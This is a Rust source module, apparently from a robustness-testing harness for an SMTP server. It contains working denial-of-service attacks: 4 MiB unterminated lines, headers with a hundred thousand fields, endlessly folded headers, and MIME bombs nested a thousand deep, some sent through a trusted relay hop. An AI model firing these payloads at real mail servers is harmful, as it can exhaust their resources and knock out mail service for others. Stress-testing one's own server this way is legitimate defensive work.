//! Messages that are made to be dear to read.

use std::io::Write;
use std::net::TcpStream;

use crate::target::{TRUSTED, connect};
use crate::words;

use super::Attacker;

/// Octets of a line without an end.
const LINE: usize = 4 << 20;

/// A line without an end, as a command, in AUTH, and as message data.
pub fn lines(attacker: &mut Attacker<'_>) -> u64 {
    let line = vec![b'x'; LINE];
    attacker.repeat(|attacker| {
        let mut stream = attacker.connect(attacker.target.smtp)?;
        match attacker.chance.u8(..3) {
            0 => words::hear(&mut stream, 220)?,
            1 => {
                words::hear(&mut stream, 220)?;
                stream.write_all(b"AUTH PLAIN ")?;
            }
            _ => words::begin(&mut stream, "bomb@example.org")?,
        }
        stream.write_all(&line)
    })
}

/// A header of two hundred thousand fields, and one that never ends.
pub fn headers(attacker: &mut Attacker<'_>) -> u64 {
    let many = words::many_fields(100_000);
    let endless = format!("Subject: {}\r\n.\r\n", " x\r\n".repeat(LINE / 4));
    attacker.repeat(|attacker| {
        let text = if attacker.chance.bool() { &many } else { &endless };
        let mut stream = attacker.connect(attacker.target.smtp)?;
        words::begin(&mut stream, "bomb@example.org")?;
        words::say(&mut stream, text, 250)
    })
}

/// Parts in parts, a thousand deep, and thousands of parts.
pub fn mime(attacker: &mut Attacker<'_>) -> u64 {
    send_bombs(attacker, "bomb@example.org", |attacker| attacker.connect(attacker.target.smtp))
}

/// The same to a hop for which all has to be converted into seven bits.
pub fn relayed(attacker: &mut Attacker<'_>) -> u64 {
    send_bombs(attacker, "bomb@elsewhere.example", |attacker| connect(TRUSTED, attacker.target.smtp))
}

fn send_bombs(
    attacker: &mut Attacker<'_>,
    to: &str,
    reach: impl Fn(&mut Attacker<'_>) -> std::io::Result<TcpStream>,
) -> u64 {
    let bombs = [words::nested(1000), words::many_parts(5000), words::nested(50) + &words::many_parts(5)];
    attacker.repeat(|attacker| {
        let mut stream = reach(attacker)?;
        words::begin(&mut stream, to)?;
        words::say(&mut stream, &bombs[attacker.chance.usize(..bombs.len())], 250)?;
        // A moment for the rest of the house.
        std::thread::sleep(std::time::Duration::from_millis(20));
        Ok(())
    })
}
